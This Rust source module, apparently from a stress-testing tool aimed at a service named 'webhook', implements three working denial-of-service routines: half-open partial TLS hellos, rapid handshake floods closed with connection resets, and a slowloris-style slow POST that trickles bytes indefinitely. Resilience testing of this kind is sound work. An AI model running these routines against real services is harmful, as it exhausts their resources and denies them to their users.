//! Attacks with TLS.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::connections::{Crowd, Open, Reading};
use crate::tls::any_name;

/// How long a handshake may take.
const HANDSHAKE: Duration = Duration::from_secs(10);
const TRICKLE: Duration = Duration::from_secs(1);
/// A record that announces a hello of 512 bytes, and the hello's first bytes.
const PART_OF_A_HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

/// Shakes hands with whoever answers.
#[derive(Clone)]
pub(super) struct Connector(pub(super) TlsConnector);

impl Connector {
    pub(super) async fn shake_hands(&self, open: Open<TcpStream>) -> io::Result<Open<TlsStream<TcpStream>>> {
        let Open { stream, place } = open;
        let stream = tokio::time::timeout(HANDSHAKE, self.0.connect(any_name(), stream)).await??;
        Ok(Open { stream, place })
    }
}

pub(super) async fn half_open(crowd: Arc<Crowd>) {
    loop {
        if let Some(mut open) = crowd.connect(Reading::Willing).await
            && open.send(PART_OF_A_HELLO).await.is_ok()
        {
            open.until_end().await;
        }
    }
}

pub(super) async fn handshakes(crowd: Arc<Crowd>, connector: Connector) {
    loop {
        if let Some(open) = crowd.connect(Reading::Willing).await
            && let Ok(open) = connector.shake_hands(open).await
        {
            // Closing resets the connection, so that no port waits for late segments.
            let _ = socket2::SockRef::from(open.stream.get_ref().0).set_linger(Some(Duration::ZERO));
        }
    }
}

pub(super) async fn slow_reviews(crowd: Arc<Crowd>, connector: Connector) {
    loop {
        let Some(open) = crowd.connect(Reading::Willing).await else {
            continue;
        };
        let Ok(mut open) = connector.shake_hands(open).await else {
            continue;
        };
        let begin: &[u8] = b"POST /inject HTTP/1.1\r\nhost: webhook\r\ncontent-type: application/json\r\n\
            content-length: 7000000\r\n\r\n{";
        let mut sent = open.send(begin).await;
        while sent.is_ok() {
            tokio::time::sleep(TRICKLE).await;
            sent = open.send(b" ").await;
        }
    }
}
